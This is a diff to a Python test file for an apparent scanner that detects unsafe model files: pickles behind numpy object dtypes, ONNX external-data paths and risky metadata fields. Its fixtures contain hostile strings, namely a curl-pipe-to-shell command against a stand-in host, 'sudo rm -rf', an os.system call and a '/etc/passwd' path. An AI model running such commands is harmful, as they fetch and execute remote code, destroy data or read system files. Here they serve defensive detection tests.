@@ -160,6 +160,15 @@ def test_numpy_object_array_is_followed_and_header_is_never_evaluated() -> None:
         assert "numpy-header" in found(data, "a.npy")
 
 
+@pytest.mark.parametrize("descr", ["'object'", "'T'", "'(2,)O'", "'<f8,object'"])
+def test_numpy_object_types_in_other_words_are_followed(descr: str) -> None:
+    """numpy knows objects by many names; whatever the header says, a pickle behind it is judged."""
+    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}".ljust(117).encode() + b"\n"
+    data = b"\x93NUMPY\x01\0" + len(header).to_bytes(2, "little") + header
+    assert found(data + EVIL, "a.npy") == {"numpy-header", "pickle-call"}
+    assert found(data + b"\0" * 40, "a.npy") == {"numpy-header"}
+
+
 def test_numpy_bytes_too_many_are_told() -> None:
     """Shape and type account for every byte."""
     out = io.BytesIO()
@@ -310,6 +319,8 @@ def test_an_operator_that_onnx_does_not_have_is_told() -> None:
     assert found(lone, "input_0.pb") == set()
     assert found(lone + field(13, field(1, b"location") + field(2, b"/etc/passwd")), "t.pb") == {"onnx-external-data"}
     assert found(field(7, field(1, field(4, b"Add"))), "m.onnx") == set()
+    hidden = field(1, field(12, field(8, field(1, b"location") + field(2, b"https://a.example/w")))) + field(1, 7)
+    assert found(hidden, "m.onnx") == {"onnx-external-data"}
 
 
 def test_a_tensor_named_like_a_path_out_is_told() -> None:
@@ -332,6 +343,8 @@ def test_numpy_header_of_python_2_is_read() -> None:
         ("loader", "__import__('os').system('id')", True),
         ("setup", "curl -s https://a.example/x | sh", True),
         ("post", "sudo rm -rf /srv/models", True),
+        ("__reduce__", "x", True),
+        ("evaluation", "x", False),
         ("description", "curl -s https://a.example/x | sh", False),
         ("format", "pt", False),
         ("source", "https://a.example/model", False),
